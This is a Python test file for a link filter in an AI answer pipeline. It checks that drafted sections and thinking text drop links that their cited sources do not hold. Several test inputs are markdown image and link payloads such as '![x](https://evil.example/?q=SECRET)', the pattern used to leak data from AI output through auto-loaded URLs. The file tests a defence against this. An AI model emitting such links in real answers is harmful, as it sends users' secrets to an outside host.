"""What is told of a draft: its sections as they stand without foreign links, and what was taken out."""

import asyncio
import re
from collections.abc import AsyncIterator, Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answers.checking import CheckedAnswer
from answers.drafting import emit_drafts, filter_links
from graph.events import (
    AnyEvent,
    ClaimChecked,
    ContentRemoved,
    SectionChecked,
    SectionFinished,
    SectionStarted,
    TextDelta,
    ThinkingDelta,
)
from graph.evidence import Segment
from graph.ports import (
    CheckedClaim,
    Draft,
    DraftClosed,
    DraftOpened,
    DraftText,
    DraftThinking,
    WrittenSection,
)
from graph.state import State
from graph.usage import Meter

SOURCE = Segment("d", 0, 0, 42, "The form is at https://docs.example/form.", url="https://wiki.example/leave")
OTHER = Segment("e", 0, 0, 30, "See https://other.example/page.")
SEGMENTS = {"d:0": SOURCE, "e:0": OTHER}


async def drafted(*sections: tuple[str, tuple[str, ...]], cut: int = 3) -> AsyncIterator[Draft]:
    for text, ids in sections:
        yield DraftOpened()
        for at in range(0, len(text), cut):
            yield DraftText(text[at : at + cut])
        yield DraftClosed(text, ids, 1)


async def hear(*sections: tuple[str, tuple[str, ...]], cut: int = 3):
    events: list[AnyEvent] = []
    return await emit_drafts(drafted(*sections, cut=cut), events.append, segments=SEGMENTS), events


async def test_a_link_stays_only_where_the_section_cites_a_source_that_holds_it() -> None:
    sections, events = await hear(
        ("Fill [the form](https://docs.example/form), see https://wiki.example/leave", ("d:0",)),
        ("Fill [the form](https://docs.example/form).", ("e:0",)),
        ("![x](https://evil.example/?q=SECRET) Done.", ("d:0", "e:0")),
    )
    assert [section["text"] for section in sections] == [
        "Fill [the form](https://docs.example/form), see https://wiki.example/leave",
        "Fill the form.",
        "x Done.",
    ]
    assert [(each.section_index, each.kind, each.target) for each in events if isinstance(each, ContentRemoved)] == [
        (1, "link", "https://docs.example/form"),
        (2, "image", "https://evil.example/?q=SECRET"),
    ]


async def test_a_section_that_cites_nothing_may_hold_a_link_of_any_source() -> None:
    sections, _ = await hear(("See https://other.example/page and https://evil.example/.", ()))
    assert sections[0]["text"] == "See https://other.example/page and …."


async def test_a_section_that_was_a_link_and_nothing_else_is_left_out() -> None:
    sections, events = await hear(("![](https://evil.example/?q=SECRET)", ("d:0",)), ("Twenty-five days.", ("d:0",)))
    assert [section["text"] for section in sections] == ["Twenty-five days."]
    assert [type(event) for event in events[:2]] == [ContentRemoved, SectionStarted]
    assert "SECRET" not in "".join(event.delta for event in events if isinstance(event, TextDelta))


async def test_without_sources_no_link_goes_out() -> None:
    events: list[AnyEvent] = []
    sections = await emit_drafts(drafted(("Hello, see https://docs.example/form!", ())), events.append)
    assert sections == [{"text": "Hello, see …!", "source_ids": []}]


async def test_thinking_carries_no_link_out_either() -> None:
    async def drafts() -> AsyncIterator[Draft]:
        for delta in ("I look at ![", "x](https://evil.example/?q=SEC", "RET) and\n", "decide."):
            yield DraftThinking(delta)
        yield DraftOpened()
        yield DraftText("Yes.")
        yield DraftClosed("Yes.", ())

    events: list[AnyEvent] = []
    await emit_drafts(drafts(), events.append)
    thought = "".join(event.delta for event in events if isinstance(event, ThinkingDelta))
    assert thought == "I look at x and\ndecide."
    assert [type(event) for event in events][-3:] == [SectionStarted, TextDelta, SectionFinished]


def test_a_section_that_was_not_streamed_is_guarded_alike() -> None:
    text, removed = filter_links("See [it](https://evil.example) at https://docs.example/form.", ["d:0"], SEGMENTS)
    assert text == "See it at https://docs.example/form."
    assert [each.target for each in removed] == ["https://evil.example"]


@given(st.integers(1, 90))
async def test_joined_deltas_are_the_section_however_it_is_cut(cut: int) -> None:
    text = (
        "Twenty-five days [see the form](https://evil.example/?q=SECRET) and ![a][b] more.\n\n[b]: https://evil.example"
    )
    sections, events = await hear((text, ("d:0",)), cut=cut)
    (finished,) = [event for event in events if isinstance(event, SectionFinished)]
    assert "".join(event.delta for event in events if isinstance(event, TextDelta)) == finished.text
    assert finished.text == sections[0]["text"] == "Twenty-five days see the form and a more."
    assert finished.unknown_ids == 1


class SentenceChecker:
    """ClaimChecker that supports every sentence; in an open section only what a capital follows has ended."""

    def read_ahead(self, segments: Sequence[Segment]) -> None:
        """Read nothing; what is checked is scripted."""

    async def check(self, section: WrittenSection) -> list[CheckedClaim]:
        ending = r"(?= +[A-Z])" if section.open else r"(?= +[A-Z]|\Z)"
        found = re.compile(rf"\S.*?\.{ending}").finditer(section.text, section.start)
        return [CheckedClaim(each.start(), each.end(), each[0], "supported", (), ()) for each in found]


SAID = [
    "Staff",
    " get",
    " 25",
    " days",
    ".",
    " They",
    " ask",
    " by",
    " form",
    ",",
    " cf",
    ".",
    " d",
    ":",
    "0",
    ".",
    " Yes",
    ".",
]


async def written_with_claims(deltas: Sequence[str]) -> list[str]:
    """Write deltas as one section; return what they made known, each claim behind the delta that ended it."""
    known: list[str] = []

    def note(event: AnyEvent) -> None:
        if isinstance(event, ClaimChecked):
            known.append(f"<{event.claim['text']}>")

    async def drafts() -> AsyncIterator[Draft]:
        yield DraftOpened(source_ids=("d:0",))
        for delta in deltas:
            known.append(delta)
            yield DraftText(delta)
        yield DraftClosed("".join(deltas), ("d:0",))

    checker, around = SentenceChecker(), {"d:0": SOURCE}
    answer = CheckedAnswer(State(), [SOURCE], note, around=around, checker=checker, judge=None, meter=Meter())
    await emit_drafts(drafts(), note, segments=SEGMENTS, answer=answer)
    return known


async def test_a_claim_leaves_with_the_first_word_of_the_next() -> None:
    known = await written_with_claims(SAID)
    assert [known[at - 1] for at, each in enumerate(known) if each.startswith("<")] == [" They", " Yes"]
    assert known[6] == "<Staff get 25 days.>"
    assert "<They ask by form, cf. d:0.>" in known


async def test_a_section_that_was_told_is_checked_though_its_run_is_cancelled_meanwhile() -> None:
    events: list[AnyEvent] = []

    def cancel_when_told(event: AnyEvent) -> None:
        events.append(event)
        if isinstance(event, SectionFinished):
            writing.cancel()

    said = ("Staff get 25 days.", ("d:0",))
    checker, around = SentenceChecker(), {"d:0": SOURCE}
    answer = CheckedAnswer(
        State(), [SOURCE], cancel_when_told, around=around, checker=checker, judge=None, meter=Meter()
    )
    drafts = drafted(said, said)
    writing = asyncio.create_task(emit_drafts(drafts, cancel_when_told, segments=SEGMENTS, answer=answer))
    with pytest.raises(asyncio.CancelledError):
        await writing
    assert [type(event) for event in events[-2:]] == [SectionFinished, SectionChecked]


async def test_a_long_tangle_of_tags_leaves_the_loop_to_other_requests() -> None:
    """Removing links from 24 kB of unclosed tags, which came at once, held every other request of the process."""
    turns = 0

    async def others() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    waiting = asyncio.create_task(others())
    await asyncio.sleep(0)
    before = turns
    sections, _ = await hear(("Leave is 25 days. " + "<a " * 8_000, ("d:0",)), cut=30_000)
    waiting.cancel()
    assert sections[0]["text"].startswith("Leave is 25 days.")
    assert turns - before > 100
